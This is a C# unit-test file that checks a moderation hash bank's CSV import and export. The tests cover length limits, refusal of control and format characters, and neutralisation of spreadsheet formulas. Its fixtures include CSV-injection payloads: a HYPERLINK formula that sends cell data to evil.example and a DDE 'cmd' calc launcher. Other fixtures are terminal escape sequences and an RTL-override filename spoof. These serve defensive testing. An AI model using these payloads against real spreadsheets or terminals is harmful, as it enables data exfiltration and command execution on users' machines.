using Moderation.Streams.Contracts;
using Moderation.Streams.Hashing.Banks;

namespace Moderation.Streams.Hashing.Tests.Banks.Adversarial;

/// <summary>
/// Bank text is bounded and clean: an import refuses ids, labels and sources over their limits or with control or
/// format characters (the hash verb's output still imports as is); an export neutralises spreadsheet formula prefixes
/// (OWASP CSV injection: a leading <c>'</c>, and quotes) and escapes what older versions stored, and still reads back to
/// the same entries.
/// </summary>
public sealed class BankCsvInjectionTests
{
    private const string Hash = "d8f8f0cee0f4a84f0637022a078f67f0b36e2ed596621e1d33e6339c4e9c9b22";
    private static readonly DateTimeOffset Now = new(2026, 11, 25, 10, 0, 0, TimeSpan.Zero);

    private static (List<BankEntry> Entries, List<BankCsv.RowError> Errors) Read(string csv) =>
        BankCsv.Read(new StringReader(csv), "b", "file.csv", Now);

    private static BankEntry Entry(string id, string? label = null, string? source = "src") => new("b", id, PdqHash.Parse(Hash), 90, label, source, Now);

    private static string Export(IEnumerable<BankEntry> entries)
    {
        var csv = new StringWriter();
        BankCsv.Write(csv, entries);
        return csv.ToString();
    }

    [Theory]
    [InlineData(TextLimits.BankIdChars - 1, true)]
    [InlineData(TextLimits.BankIdChars, true)]
    [InlineData(TextLimits.BankIdChars + 1, false)]
    [InlineData(1_100_000, false)]
    public void An_id_just_under_at_and_over_its_limit_is_imported_imported_and_refused(int length, bool imported)
    {
        var (entries, errors) = Read($"{Hash},90,{new string('i', length)}\n");
        Assert.Equal(imported ? 1 : 0, entries.Count);
        if (!imported) Assert.Contains($"over the limit of {TextLimits.BankIdChars}", Assert.Single(errors).Message);
        Assert.All(errors, e => Assert.InRange(e.Message.Length, 1, 300)); // the report does not echo the huge field
    }

    [Theory]
    [InlineData(TextLimits.BankLabelChars - 1, true)]
    [InlineData(TextLimits.BankLabelChars, true)]
    [InlineData(TextLimits.BankLabelChars + 1, false)]
    public void A_label_or_source_just_under_at_and_over_its_limit_is_imported_imported_and_refused(int length, bool imported)
    {
        Assert.Equal(imported, Read($"{Hash},90,h-1,{new string('l', length)}\n").Errors.Count == 0);
        Assert.Equal(imported, Read($"{Hash},90,h-1,label,{new string('s', length)}\n").Errors.Count == 0);
    }

    [Theory]
    [InlineData("h-1\tx")]
    [InlineData("\"h-1\u0085x\"")]
    [InlineData("h-1\u007F")]
    [InlineData("h\u001b[31m-1")]
    [InlineData("h-1\u202Egnp.exe")]
    [InlineData("h-1\u200B")]
    [InlineData("h-1\u2028x")]
    public void Ids_and_labels_with_control_or_format_characters_are_refused_and_reported_escaped(string field)
    {
        foreach (var row in new[] { $"{Hash},90,{field}\n", $"{Hash},90,h-1,{field}\n" })
        {
            var (entries, errors) = Read(row);
            Assert.Empty(entries);
            var error = Assert.Single(errors);
            Assert.Contains("control or format character", error.Message);
            Assert.True(SafeText.IsClean(error.Message), error.Message);
        }
    }

    [Fact]
    public void Bad_hash_quality_and_timestamp_fields_are_reported_escaped_and_cut()
    {
        var (_, errors) = Read($"\u001b]0;pwned\u0007{new string('x', 5000)},90\n{Hash},\u001b[2J\n{Hash},90,h,l,s,\u001b[2J\n");
        Assert.Equal(3, errors.Count);
        Assert.All(errors, e => Assert.True(SafeText.IsClean(e.Message) && e.Message.Length < 300, e.Message));
    }

    [Fact]
    public void The_hash_verb_output_with_a_long_path_still_imports_as_is()
    {
        var path = "/data/" + string.Join('/', Enumerable.Repeat("nested-folder", 60)) + "/photo 1 (copy).jpg";
        Assert.InRange(path.Length, 800, TextLimits.BankIdChars);
        var line = new PdqResult(PdqHash.Parse(Hash), 100).FormatLine(path);
        var (entries, errors) = BankCsv.Read(new StringReader(line + "\n"), "b", "hashes.csv", Now);
        Assert.Empty(errors);
        Assert.Equal(path, Assert.Single(entries).Id);
    }

    public static TheoryData<string> FormulaTexts => new()
    {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1", "'=already-quoted",
        "''+two-quotes", "'plain", "plain", "a=b", "-", "'", "''",
    };

    [Theory]
    [MemberData(nameof(FormulaTexts))]
    public void An_export_never_starts_a_field_with_a_formula_character_and_reads_back_to_the_same_entry(string text)
    {
        var entries = new List<BankEntry> { Entry(text, text, text) };
        var csv = Export(entries);

        foreach (var line in csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1))
            foreach (var field in Fields(line))
                Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0]), $"field '{field}' of '{line}' starts a formula");
        var (read, errors) = BankCsv.Read(new StringReader(csv), "b", null, DateTimeOffset.UnixEpoch);
        Assert.Empty(errors);
        Assert.Equal(entries, read);
    }

    [Fact]
    public void A_neutralising_quote_written_by_hand_is_read_like_an_exported_one()
    {
        var (entries, errors) = Read($"{Hash},90,'=cmd,'@label\n");
        Assert.Empty(errors);
        Assert.Equal(("=cmd", "@label"), (entries[0].Id, entries[0].Label));
    }

    [Fact]
    public void Entries_stored_by_older_versions_with_huge_or_dirty_text_export_escaped_and_capped_and_the_export_imports()
    {
        var dirty = new List<BankEntry>
        {
            Entry(new string('i', 1_100_000), "label\r\n=cmd", "src\u001b[2J"),
            Entry("=h\t2", new string('l', 10_000), null),
        };
        var csv = Export(dirty);
        Assert.InRange(csv.Length, 0, 4 * (TextLimits.BankIdChars + 2 * TextLimits.BankLabelChars + 200));

        var (read, errors) = BankCsv.Read(new StringReader(csv), "b", null, DateTimeOffset.UnixEpoch);
        Assert.Empty(errors);
        Assert.Equal(2, read.Count);
        Assert.All(read, e => Assert.True(e.Id.Length <= TextLimits.BankIdChars && SafeText.IsClean(e.Id)));
        Assert.Contains(read, e => e.Label == "label\\u000D\\u000A=cmd" && e.Source == "src\\u001B[2J");
        Assert.Contains(read, e => e.Id == "=h\\u00092" && e.Label!.Length == TextLimits.BankLabelChars);
    }

    // Fields as a spreadsheet sees them: RFC 4180, the quotes removed.
    private static List<string> Fields(string line)
    {
        var fields = new List<string>();
        var field = new System.Text.StringBuilder();
        bool quoted = false;
        for (int i = 0; i < line.Length; i++)
        {
            char c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c == ',') { fields.Add(field.ToString()); field.Clear(); }
            else field.Append(c);
        }
        fields.Add(field.ToString().TrimEnd('\r'));
        return fields;
    }
}
